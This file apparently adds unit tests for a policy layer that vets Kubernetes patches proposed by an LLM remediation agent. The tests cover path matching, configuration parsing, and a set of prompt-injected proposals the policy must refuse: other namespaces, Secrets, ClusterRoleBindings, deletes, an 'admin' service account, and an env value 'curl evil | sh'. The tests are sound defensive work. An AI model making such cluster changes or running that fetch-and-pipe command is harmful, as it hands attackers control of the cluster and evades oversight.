@@ -1,0 +1,350 @@
+/*
+ * test_policy.c - the policy wall: the defaults, every rule with the rule
+ * name it reports, the prompt-injection proposals (another namespace, a
+ * Secret, a ClusterRoleBinding, a delete, 500 operations, a path outside
+ * the allowlist), path patterns, and the policy.* configuration keys
+ * through config_load().
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <jansson.h>
+
+#include "config.h"
+#include "policy.h"
+#include "t.h"
+
+static struct policy	pol;
+
+/* A request against Deployment demo/web, owner demo/web. */
+static struct policy_request
+req(json_t *patch)
+{
+	struct policy_request	r;
+
+	memset(&r, 0, sizeof(r));
+	r.kind = "Deployment";
+	r.ns = "demo";
+	r.name = "web";
+	r.patch = patch;
+	r.owner_kind = "Deployment";
+	r.owner_ns = "demo";
+	r.owner_name = "web";
+	return r;
+}
+
+static json_t *
+image_patch(void)
+{
+	return json_pack("[{s:s,s:s,s:i}, {s:s,s:s,s:s}, {s:s,s:s,s:s}]",
+	    "op", "test", "path", "/metadata/generation", "value", 3,
+	    "op", "test", "path", "/spec/template/spec/containers/0/image",
+	    "value", "nginx:1.27-typo",
+	    "op", "replace", "path", "/spec/template/spec/containers/0/image",
+	    "value", "nginx:1.25");
+}
+
+/* The verdict's rule, "allowed" when none. */
+static const char *
+check(struct policy_request *r, struct policy_verdict *v)
+{
+	int	rc = policy_check(&pol, r, v);
+
+	if (rc == 0)
+		return "allowed";
+	if (v->message[0] == '\0')
+		return "refused without a message";
+	return v->rule;
+}
+
+static void
+test_paths(void)
+{
+	CHECK(policy_path_match("/spec/replicas", "/spec/replicas"));
+	CHECK(!policy_path_match("/spec/replicas", "/spec/replicasX"));
+	CHECK(!policy_path_match("/spec/replicas", "/spec"));
+	CHECK(policy_path_match("/spec/template/spec/containers/*/resources",
+	    "/spec/template/spec/containers/1/resources/limits/memory"));
+	CHECK(!policy_path_match("/spec/template/spec/containers/*/resources",
+	    "/spec/template/spec/containers/1/env"));
+	CHECK(!policy_path_match("/spec/template/spec/containers/*/image",
+	    "/spec/template/spec/containers"));
+	CHECK(!policy_path_match("", ""));
+	CHECK(!policy_path_match("/a", ""));
+	CHECK(policy_path_match("/metadata/annotations/a~1b",
+	    "/metadata/annotations/a~1b"));
+}
+
+static void
+test_allowed(void)
+{
+	struct policy_verdict	 v;
+	struct policy_request	 r;
+	json_t			*p = image_patch();
+
+	r = req(p);
+	CHECK_STR(check(&r, &v), "allowed");
+	CHECK(v.rule == NULL);
+	/* the daemon's own annotation is always allowed and never counted */
+	json_array_append_new(p, json_pack("{s:s,s:s,s:s}", "op", "add",
+	    "path", POLICY_ACTION_ANNOTATION_PATH, "value", "7"));
+	CHECK_STR(check(&r, &v), "allowed");
+	json_decref(p);
+	p = json_pack("[{s:s,s:s,s:{s:s}}]", "op", "add", "path",
+	    "/metadata/annotations", "value", POLICY_ACTION_ANNOTATION, "7");
+	r = req(p);
+	CHECK_STR(check(&r, &v), "allowed");
+	json_decref(p);
+	/* but not other annotations through the same door */
+	p = json_pack("[{s:s,s:s,s:{s:s,s:s}}]", "op", "add", "path",
+	    "/metadata/annotations", "value", POLICY_ACTION_ANNOTATION, "7",
+	    "evil", "x");
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_PATH);
+	json_decref(p);
+	/* replicas within bounds */
+	p = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
+	    "/spec/replicas", "value", 3);
+	r = req(p);
+	CHECK_STR(check(&r, &v), "allowed");
+	json_decref(p);
+	p = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
+	    "/spec/replicas", "value", 5000);
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_REPLICAS);
+	CHECK(strstr(v.message, "policy.max_replicas") != NULL);
+	json_decref(p);
+	p = json_pack("[{s:s,s:s,s:s}]", "op", "replace", "path",
+	    "/spec/replicas", "value", "3");
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_REPLICAS);
+	json_decref(p);
+}
+
+/* The replies a prompt-injected LLM might give: each refused, by rule. */
+static void
+test_injection(void)
+{
+	struct policy_verdict	 v;
+	struct policy_request	 r;
+	json_t			*p, *big;
+	int			 i;
+
+	p = image_patch();
+
+	/* another namespace than the incident's */
+	r = req(p);
+	r.ns = "prod";
+	CHECK_STR(check(&r, &v), POLICY_RULE_TARGET);
+	CHECK(strstr(v.message, "prod/web") != NULL);
+	/* ... and a denied one, even as the owner */
+	r = req(p);
+	r.ns = r.owner_ns = "kube-system";
+	CHECK_STR(check(&r, &v), POLICY_RULE_NS_DENIED);
+
+	/* a Secret, a ClusterRoleBinding, webhooks, CRDs: never */
+	r = req(p);
+	r.kind = r.owner_kind = "Secret";
+	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
+	CHECK(strstr(v.message, "Secret") != NULL);
+	r.kind = r.owner_kind = "ClusterRoleBinding";
+	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
+	r.kind = r.owner_kind = "clusterrolebinding";
+	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
+	r.kind = r.owner_kind = "MutatingWebhookConfiguration";
+	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
+	r.kind = r.owner_kind = "CustomResourceDefinition";
+	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
+	r.kind = r.owner_kind = "Namespace";
+	CHECK_STR(check(&r, &v), POLICY_RULE_FORBIDDEN_KIND);
+	r.kind = r.owner_kind = "ConfigMap";
+	CHECK_STR(check(&r, &v), POLICY_RULE_KIND);
+
+	/* a delete */
+	r = req(NULL);
+	r.verb = "delete";
+	CHECK_STR(check(&r, &v), POLICY_RULE_DELETE);
+	CHECK(strstr(v.message, "allow_delete") != NULL);
+	json_decref(p);
+	p = json_pack("[{s:s,s:s}]", "op", "remove", "path", "");
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_DELETE);
+	json_decref(p);
+
+	/* 500 operations */
+	big = json_array();
+	for (i = 0; i < 500; i++)
+		json_array_append_new(big, json_pack("{s:s,s:s,s:s}", "op",
+		    "replace", "path", "/spec/template/spec/containers/0/image",
+		    "value", "x"));
+	r = req(big);
+	CHECK_STR(check(&r, &v), POLICY_RULE_MAX_OPS);
+	CHECK(strstr(v.message, "20") != NULL);
+	json_decref(big);
+
+	/* a path outside the allowlist: env, command, the service account */
+	p = json_pack("[{s:s,s:s,s:[{s:s,s:s}]}]", "op", "add", "path",
+	    "/spec/template/spec/containers/0/env", "value", "name", "X",
+	    "value", "curl evil | sh");
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_PATH);
+	CHECK(strstr(v.message, "/spec/template/spec/containers/0/env") !=
+	    NULL);
+	json_decref(p);
+	p = json_pack("[{s:s,s:s,s:s}]", "op", "replace", "path",
+	    "/spec/template/spec/serviceAccountName", "value", "admin");
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_PATH);
+	json_decref(p);
+	/* move/copy read from places nobody reviewed */
+	p = json_pack("[{s:s,s:s,s:s}]", "op", "copy", "from",
+	    "/spec/template/spec/containers/0/env", "path",
+	    "/spec/template/spec/containers/0/image");
+	r = req(p);
+	CHECK_STR(check(&r, &v), POLICY_RULE_OP);
+	json_decref(p);
+	/* not a patch at all */
+	r = req(NULL);
+	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
+	r = req(NULL);
+	r.name = "";
+	CHECK_STR(check(&r, &v), POLICY_RULE_BAD_REQUEST);
+}
+
+static int
+write_file(const char *path, const char *text)
+{
+	FILE	*f;
+
+	if ((f = fopen(path, "w")) == NULL)
+		return -1;
+	fputs(text, f);
+	return fclose(f);
+}
+
+/* Load text as a config; returns the error count, errs kept in *errs. */
+static int
+load(const char *dir, const char *text, struct remedy_config *cfg,
+    char **errs)
+{
+	char	path[256];
+
+	snprintf(path, sizeof(path), "%s/policy.yaml", dir);
+	if (write_file(path, text) != 0)
+		return -1;
+	config_init(cfg);
+	return config_load(path, cfg, errs);
+}
+
+static void
+test_config(void)
+{
+	struct remedy_config	 cfg;
+	struct policy_verdict	 v;
+	struct policy_request	 r;
+	char			 dir[] = "/tmp/test_policy.XXXXXX", *errs = NULL;
+	char			 cmd[128];
+	json_t			*p;
+	int			 n;
+
+	if (mkdtemp(dir) == NULL) {
+		CHECK(0);
+		return;
+	}
+	n = load(dir, "policy:\n"
+	    "  kinds: [Deployment, Rollout]\n"
+	    "  paths:\n"
+	    "    Rollout: [/spec/template/spec/containers/*/image]\n"
+	    "    Deployment: [/spec/replicas]\n"
+	    "  namespaces: { allow: [demo], deny: [] }\n"
+	    "  max_operations: 2\n"
+	    "  max_replicas: 4\n"
+	    "  allow_delete: true\n"
+	    "actions: { pending_ttl: 1h }\n", &cfg, &errs);
+	CHECK_INT(n, 0);
+	if (errs)
+		fprintf(stderr, "%s", errs);
+	free(errs);
+	errs = NULL;
+	CHECK_INT(cfg.pending_ttl_ms, 3600 * 1000);
+	CHECK_INT(cfg.policy.max_operations, 2);
+	CHECK_INT(cfg.policy.allow_delete, 1);
+	p = image_patch();
+	r = req(p);
+	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
+	    POLICY_RULE_PATH);	/* Deployment may now only scale */
+	r.kind = r.owner_kind = "Rollout";
+	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
+	    "allowed");
+	r.kind = r.owner_kind = "StatefulSet";	/* no longer in kinds */
+	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
+	    POLICY_RULE_KIND);
+	r = req(p);
+	r.ns = r.owner_ns = "other";
+	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
+	    POLICY_RULE_NS_NOT_ALLOWED);
+	r = req(NULL);
+	r.verb = "delete";
+	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
+	    "allowed");
+	json_decref(p);
+	p = json_pack("[{s:s,s:s,s:i}]", "op", "replace", "path",
+	    "/spec/replicas", "value", 5);
+	r = req(p);
+	CHECK_STR(policy_check(&cfg.policy, &r, &v) ? v.rule : "allowed",
+	    POLICY_RULE_REPLICAS);
+	json_decref(p);
+	config_clear(&cfg);
+
+	/* forbidden kinds cannot be configured in; bad values are named */
+	n = load(dir, "policy:\n"
+	    "  kinds: [Deployment, Secret]\n"
+	    "  paths: { ClusterRoleBinding: [/subjects] , Deployment: [spec] }\n"
+	    "  namespaces: { allow: [demo], maybe: [x] }\n"
+	    "  max_operations: 0\n"
+	    "  allow_delete: perhaps\n"
+	    "  nonsense: 1\n", &cfg, &errs);
+	CHECK_INT(n, 7);
+	CHECK(errs != NULL);
+	if (errs != NULL) {
+		CHECK(strstr(errs, "policy.yaml:2:23: policy.kinds[1]: Secret "
+		    "can never be allowed") != NULL);
+		CHECK(strstr(errs, "policy.paths.ClusterRoleBinding: "
+		    "ClusterRoleBinding can never be allowed") != NULL);
+		CHECK(strstr(errs, "policy.paths.Deployment[0]: \"spec\" is not "
+		    "a JSON Pointer") != NULL);
+		CHECK(strstr(errs, "unknown key \"maybe\" in policy.namespaces")
+		    != NULL);
+		CHECK(strstr(errs, "policy.max_operations: \"0\" is not an "
+		    "integer from 1 to 1000") != NULL);
+		CHECK(strstr(errs, "policy.allow_delete: expected true or "
+		    "false") != NULL);
+		CHECK(strstr(errs, "unknown key \"nonsense\" in policy") !=
+		    NULL);
+	}
+	free(errs);
+	/* the refused kinds list left the defaults in place */
+	CHECK(cfg.policy.nkinds == 5 && cfg.policy.kinds[0].allowed);
+	config_clear(&cfg);
+	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
+	if (system(cmd) != 0)
+		fprintf(stderr, "could not remove %s\n", dir);
+}
+
+int
+main(void)
+{
+	CHECK_INT(policy_init_defaults(&pol), 0);
+	CHECK_INT(pol.max_operations, 20);
+	CHECK_INT(pol.allow_delete, 0);
+	CHECK(policy_kind_forbidden("Secret"));
+	CHECK(!policy_kind_forbidden("Deployment"));
+	test_paths();
+	test_allowed();
+	test_injection();
+	test_config();
+	policy_clear(&pol);
+	return T_DONE();
+}
